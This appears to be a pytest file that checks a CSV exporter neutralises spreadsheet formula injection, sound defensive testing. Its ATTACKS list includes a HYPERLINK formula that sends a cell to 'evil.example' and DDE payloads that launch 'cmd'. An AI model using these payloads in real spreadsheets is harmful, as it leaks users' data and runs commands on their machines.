"""CSV for spreadsheets: what a name of a deal or a rep says is never run, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from planwatch.csv_out import csv_cell, query_table, status_table, write_csv
from schemas.base import PlanwatchError
from schemas.status import Reason, TargetStatus

ATTACKS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\0=1+1",
    "＝1+1",
    "＠SUM(A1)",
]


def written(path: Path, rows: list[list[str | int | Decimal | None]]) -> str:
    write_csv(str(path / "out.csv"), ["name", "value"], rows)
    return (path / "out.csv").read_bytes().decode()


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_is_text(tmp_path: Path, attack: str) -> None:
    """Whatever a spreadsheet would take for a formula begins with an apostrophe, and is otherwise as it was."""
    text = written(tmp_path, [[attack, 1]])
    _, (cell, value) = csv.reader(io.StringIO(text, newline=""))
    assert cell == "'" + attack.replace("\0", "")
    assert value == "1"


@pytest.mark.parametrize("separator", [";", "\t", "|", ","])
def test_no_cell_begins_within_another(tmp_path: Path, separator: str) -> None:
    """A formula after another separator, a quotation mark or a line end within a text starts no cell anywhere."""
    text = written(tmp_path, [[f'x{separator}=1+1"{separator}=2+2\n=3+3', 1]])
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    """Numbers stand without quotes, negative ones and large ones too; text that looks like one stays text."""
    rows: list[list[str | int | Decimal | None]] = [
        ["a", -5],
        ["b", Decimal("-1054.50")],
        ["c", Decimal("1E+3")],
        ["-5", None],
    ]
    assert written(tmp_path, rows) == '"name","value"\r\n"a",-5\r\n"b",-1054.50\r\n"c",1000\r\n"\'-5",""\r\n'


@given(st.text())
def test_any_text_comes_back_and_starts_no_formula(text: str) -> None:
    """Of any text at all only an apostrophe is added and zero bytes are taken away."""
    cell = csv_cell(text)
    assert isinstance(cell, str)
    assert cell in (text.replace("\0", ""), "'" + text.replace("\0", ""))
    assert not cell.strip().startswith(("=", "+", "-", "@"))


def test_ordinary_text_is_left_alone() -> None:
    """Names with these characters inside, and an empty cell."""
    assert [csv_cell(value) for value in ("Rep-One", "a@b.example", "1+1", "", None)] == [
        "Rep-One",
        "a@b.example",
        "1+1",
        "",
        "",
    ]


def test_a_query_as_a_table() -> None:
    """A column for each dimension; a scope without a value of it is empty."""
    answer = {
        "kpi": "revenue",
        "unit": "USD",
        "rows": [
            {"scope": {"team": "=evil"}, "period": "2024", "value": Decimal("12.50"), "reason": None},
            {"scope": {"team": None}, "period": None, "value": None, "reason": "no deals"},
        ],
    }
    columns, rows = query_table(answer, ["team"])
    assert columns == ["team", "period", "revenue", "unit", "reason"]
    assert rows == [["=evil", "2024", Decimal("12.50"), "USD", None], [None, None, None, "USD", "no deals"]]


def test_statuses_as_a_table(tmp_path: Path) -> None:
    """Every target is a row whose cells are under their columns; a rep's name in it is no formula."""
    status = TargetStatus(
        kpi="revenue",
        dimension="rep",
        scope="005",
        scope_name="=1+1",
        period="2026-Q1",
        period_start="2026-01-01",
        period_end="2026-03-31",
        unit="money",
        currency="USD",
        direction="up",
        as_of=1,
        target=Decimal(100),
        actual=None,
        expected=Decimal("50.5"),
        attainment=None,
        gap=Decimal(-3),
        coverage=None,
        landing=None,
        probability=Decimal("0.25"),
        elapsed=Decimal(0),
        status="at_risk",
        reasons=(Reason(name="slip", text="=two deals slipped."), Reason(name="low", text="Few leads.")),
    )
    write_csv(str(tmp_path / "s.csv"), *status_table([status]))
    (row,) = csv.DictReader(io.StringIO((tmp_path / "s.csv").read_text(), newline=""))
    assert (row["name"], row["target"], row["expected"], row["gap"]) == ("'=1+1", "100", "50.5", "-3")
    assert (row["actual"], row["landing_p50"], row["probability"]) == ("", "", "0.25")
    assert row["reasons"] == "'=two deals slipped. Few leads."


def test_a_file_that_cannot_be_written(tmp_path: Path) -> None:
    """The error names the file."""
    with pytest.raises(PlanwatchError, match=r"gone/out\.csv: cannot be written"):
        write_csv(str(tmp_path / "gone" / "out.csv"), ["a"], [])


def test_standard_output(capsys: pytest.CaptureFixture[str]) -> None:
    """A dash is standard output."""
    write_csv("-", ["a"], [["=x"], [1]])
    assert capsys.readouterr().out == '"a"\n"\'=x"\n1\n'
